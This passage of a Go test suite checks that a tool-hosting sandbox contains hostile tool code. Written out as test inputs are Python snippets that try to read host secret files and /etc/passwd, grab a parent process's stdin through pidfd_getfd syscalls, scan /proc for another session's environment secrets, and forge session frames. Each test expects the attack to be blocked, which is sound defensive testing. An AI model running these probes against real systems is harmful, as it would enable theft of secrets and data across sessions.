		expect{want: ""}.check(t, code, a)
		if strings.Contains(a.seen(), "session-1-secret") || strings.Contains(a.seen(), sessionID(1)) {
			t.Errorf("THE ATTACK GOT THROUGH: the spy saw the next session: %s", a.seen())
		}
		w.victimStillWorks(t)
	})
	t.Run("session: an extra answer frame for the next session", func(t *testing.T) {
		code, a := s.call(tokA, sessions[0], "ExtraAnswer", "")
		expect{kind: "crash", want: "does not belong to the call to hostile.extra_answer"}.check(t, code, a)
		code, a = s.call(tokA, sessions[1], "EchoContext", "")
		expect{want: `"session_id":"` + sessionID(1) + `"`}.check(t, code, a)
		if strings.Contains(a.seen(), "forged") || strings.Contains(a.seen(), "session-0-secret") {
			t.Errorf("the next session got the previous one's answer: %s", a.seen())
		}
		w.victimStillWorks(t)
	})
	t.Run("session: call_tool with a forged session", func(t *testing.T) {
		code, a := s.call(tokA, sessions[0], "ForgedCallTool", `{"session":"`+sessionID(1)+`"}`)
		expect{want: `"session_id":"` + sessionID(0) + `"`}.check(t, code, a)
		if strings.Contains(a.seen(), "session-1-secret") || !strings.Contains(a.seen(), `"call_depth":1`) {
			t.Errorf("the nested call ran with another session's context: %s", a.seen())
		}
		w.victimStillWorks(t)
	})
	t.Run("session: duplicate keys in a call body", func(t *testing.T) {
		var a answer
		code := s.do(tokA, "POST", sessions[0], strings.NewReader(`{"tool":"Ok","tool":"Attack","arguments":{}}`), &a)
		expect{status: 400, want: `duplicate key "tool" in the request body`}.check(t, code, a)
		w.victimStillWorks(t)
	})

	if n := fetched.Load(); n != 0 {
		t.Errorf("the host connected to a tenant's URL %d times", n)
	}
}

func mustAtoi(s string) int {
	n, _ := strconv.Atoi(s)
	return n
}

// hostileGroupDir is a folder holding the attack group and the runner's
// hostile tools, for the command-line doors.
func hostileGroupDir(t *testing.T) string {
	dir := t.TempDir()
	for _, f := range []string{filepath.Join(hostileDir, "attack.yaml"), filepath.Join(hostileDir, "attack.py"), hostilePy,
		filepath.Join(hostileDir, "g.yaml"), filepath.Join(hostileDir, "g.py")} {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		os.WriteFile(filepath.Join(dir, filepath.Base(f)), b, 0o644)
	}
	return dir
}

// TestHostileCallCommand: attacks through `toolhost call`, each its own
// process and sandbox; the exit code and the answer (or message) the user
// sees; a call after them works.
func TestHostileCallCommand(t *testing.T) {
	dir := hostileGroupDir(t)
	group := filepath.Join(dir, "attack.yaml")
	secretDir := t.TempDir()
	secret := filepath.Join(secretDir, "secret.txt")
	os.WriteFile(secret, []byte("secret of the host"), 0o644)
	q := strconv.Quote
	tests := []struct {
		name  string
		args  []string
		stdin string
		code  int
		out   expect
	}{
		{name: "the minimal world", args: []string{"attack", snippet("import os\nout = [os.getuid(), [l.split()[1] for l in open('/proc/self/status') if l.startswith('CapEff')], os.path.exists(" + q(dir) + ")]")},
			out: expect{want: `[1000,["0000000000000000"],false]`}},
		{name: "a host file", args: []string{"attack", snippet("out = open(" + q(secret) + ").read()")}, code: 1,
			out: expect{kind: "exception", want: "FileNotFoundError"}},
		{name: "the group's host folder", args: []string{"attack", snippet("import os; out = os.listdir(" + q(dir) + ")")}, code: 1,
			out: expect{kind: "exception", want: "FileNotFoundError"}},
		{name: "the caller's stdin", args: []string{"attack", snippet("import os, sys; out = [sys.stdin.read(), os.read(0, 100).decode()]")},
			stdin: "secret line of the caller\n", out: expect{want: `["",""]`}},
		{name: "pidfd_getfd of the plugin process's stdin", args: []string{"attack", snippet("import os; fd = sc(434, os.getppid(), 0); out = os.read(sc(438, fd, 0, 0), 100).decode()")},
			stdin: "secret line of the caller\n", code: 1, out: expect{kind: "exception", want: "PermissionError: [Errno 1] Operation not permitted"}},
		{name: "an endless loop", args: []string{"spin"}, code: 1, out: expect{kind: "timeout", want: "attack.spin did not finish within 2s; its worker was killed"}},
		{name: "sys.exit", args: []string{"attack", snippet("import sys; sys.exit(3)")}, code: 1,
			out: expect{kind: "exception", want: "SystemExit: the tool called sys.exit(3); a tool must return a result or raise an exception"}},
		{name: "duplicate keys in the arguments", args: []string{"ok", `{"x":1,"x":2}`}, code: 2},
	}
	next := tests[0]
	next.name, next.args, next.out = "the next call", []string{"ok", `{"x":3}`}, expect{want: `{"still":"here","x":3}`}
	// Each call is a process and a sandbox of its own: they run at once,
	// and a call after them works.
	t.Run("attacks", func(t *testing.T) {
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				t.Parallel()
				runCall(t, group, tt.args, tt.stdin, tt.code, tt.out)
			})
		}
	})
	runCall(t, group, next.args, next.stdin, next.code, next.out)
}

// runCall runs `toolhost call` and checks its exit code and answer.
func runCall(t *testing.T, group string, args []string, stdin string, wantCode int, out expect) {
	t.Helper()
	cmd := exec.Command(bin, append([]string{"call", "--network", "deny", group}, args...)...)
	cmd.Stdin = strings.NewReader(stdin)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	stdout, err := cmd.Output()
	if msg := sandboxMissing(stderr.String()); msg != "" {
		t.Errorf("THE SANDBOX IS MISSING: toolhost call runs tool code without it:\n%s", msg)
	}
	if got := exitCode(err); got != wantCode {
		t.Errorf("exit %d, want %d\n%s\n%s", got, wantCode, stdout, stderr.String())
	}
	if wantCode == 2 {
		if want := `invalid arguments for tool "ok": arguments are not valid JSON: duplicate key "x" (at byte 7)`; !strings.Contains(stderr.String(), want) {
			t.Errorf("stderr %q, want %q", stderr.String(), want)
		}
		return
	}
	var a answer
	if err := json.Unmarshal(stdout, &a); err != nil {
		t.Fatalf("answer: %v\n%s", err, stdout)
	}
	out.check(t, 200, a)
}

// sessionLine is one input line of `toolhost session` and what its output
// line must be.
type sessionLine struct {
	name string
	line string
	out  expect
}

// runSession runs `toolhost session` with the lines and checks one output
// line per input line: the tool code cannot consume the lines that follow
// its own.
func runSession(t *testing.T, args []string, lines []sessionLine) {
	t.Helper()
	var input []string
	for _, l := range lines {
		input = append(input, l.line)
	}
	cmd := exec.Command(bin, append([]string{"session"}, args...)...)
	cmd.Stdin = strings.NewReader(strings.Join(input, "\n") + "\n")
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, _ := cmd.Output()
	if msg := sandboxMissing(stderr.String()); msg != "" {
		t.Errorf("THE SANDBOX IS MISSING: toolhost session runs tool code without it:\n%s", msg)
	}
	got := strings.Split(strings.TrimSpace(string(out)), "\n")
	if len(got) != len(lines) {
		t.Fatalf("%d answers for %d input lines (tool code consumed input?):\n%s\n%s", len(got), len(lines), out, stderr.String())
	}
	for i, l := range lines {
		t.Run(l.name, func(t *testing.T) {
			var a answer
			if err := json.Unmarshal([]byte(got[i]), &a); err != nil {
				t.Fatalf("line %d: %v: %s", i+1, err, got[i])
			}
			l.out.check(t, 200, a)
		})
	}
}

// TestHostileSessionCommand: through `toolhost session`, tool code cannot
// read the session's next input lines (cpython and gpython), nor the
// variables of another session running beside it; gpython's own attacks
// are contained, and each next line is answered.
func TestHostileSessionCommand(t *testing.T) {
	dir := hostileGroupDir(t)
	// Another session, with a secret variable, waits for its input.
	other := exec.Command(bin, "session", "--network", "deny", "--var", "Secret=other-session-secret", filepath.Join(dir, "attack.yaml"))
	otherIn, _ := other.StdinPipe()
	otherOut, _ := other.StdoutPipe()
	other.Stderr = io.Discard
	if err := other.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { otherIn.Close(); other.Wait() }()
	otherLines := bufio.NewReader(otherOut)
	io.WriteString(otherIn, `{"tool":"echo_context"}`+"\n")
	first, _ := otherLines.ReadString('\n')
	if !strings.Contains(first, "other-session-secret") {
		t.Fatalf("the other session: %q", first)
	}

	read := func(code string) string {
		return `{"tool":"attack","arguments":` + snippet(code) + `}`
	}
	t.Run("cpython", func(t *testing.T) {
		runSession(t, []string{"--network", "deny", filepath.Join(dir, "attack.yaml")}, []sessionLine{
			{"stdin", read("import os, sys; out = [sys.stdin.read(), os.read(0, 1000).decode()]"), expect{want: `["",""]`}},
			{"stdin through /proc/PPID/fd/0", read("import os; out = open('/proc/%d/fd/0' % os.getppid()).read()"), expect{kind: "exception", want: "PermissionError"}},
			{"pidfd_getfd of the plugin process's stdin", read("import os; fd = sc(434, os.getppid(), 0); out = os.read(sc(438, fd, 0, 0), 1000).decode()"),
				expect{kind: "exception", want: "PermissionError: [Errno 1] Operation not permitted"}},
			{"the other session's variables",
				read("import os\nout = []\nfor p in os.listdir('/proc'):\n    for f in ('cmdline', 'environ'):\n        try:\n            b = open('/proc/%s/%s' % (p, f), 'rb').read()\n        except OSError:\n            continue\n        if b'other-session-secret' in b:\n            out.append(p + '/' + f)"),
				expect{want: "[]"}},
			{"duplicate keys in a line", `{"tool":"ok","arguments":{"x":1,"x":2}}`, expect{kind: "input", want: `duplicate key "x"`}},
			{"the next line", `{"tool":"ok","arguments":{"x":6}}`, expect{want: `{"still":"here","x":6}`}},
		})
	})
	t.Run("gpython", func(t *testing.T) {
		runSession(t, []string{"--network", "deny", "--runtime", "gpython", filepath.Join(dir, "g.yaml")}, []sessionLine{
			{"stdin", `{"tool":"stdin"}`, expect{want: `["",""]`}},
			{"open()", `{"tool":"read","arguments":{"path":"/etc/passwd"}}`, expect{kind: "exception", want: "OSError: open() is not available on the gpython runtime"}},
			{"import os", `{"tool":"uses_os"}`, expect{kind: "exception", want: `ImportError: No module named "os" on the gpython runtime`}},
			{"sys.exit", `{"tool":"exits"}`, expect{kind: "exception", want: "SystemExit: the tool called sys.exit(3); a tool must return a result or raise an exception"}},
			{"an endless loop", `{"tool":"spin"}`, expect{kind: "timeout", want: "g.spin did not finish within 2s; gpython code cannot be interrupted, so its plugin process is replaced"}},
			{"after the loop", `{"tool":"ok","arguments":{"x":6}}`, expect{want: `{"still":"here","x":6}`}},
			{"endless recursion", `{"tool":"recurse"}`, expect{kind: "crash", want: "fatal error: stack overflow"}},
			{"the next line", `{"tool":"ok","arguments":{"x":8}}`, expect{want: `{"still":"here","x":8}`}},
		})
	})

	// The other session was untouched: it answers its next line.
	io.WriteString(otherIn, `{"tool":"ok","arguments":{"x":9}}`+"\n")
	second, _ := otherLines.ReadString('\n')
	if !strings.Contains(second, `"x":9`) {
		t.Errorf("the other session after the attacks: %q", second)
	}
}
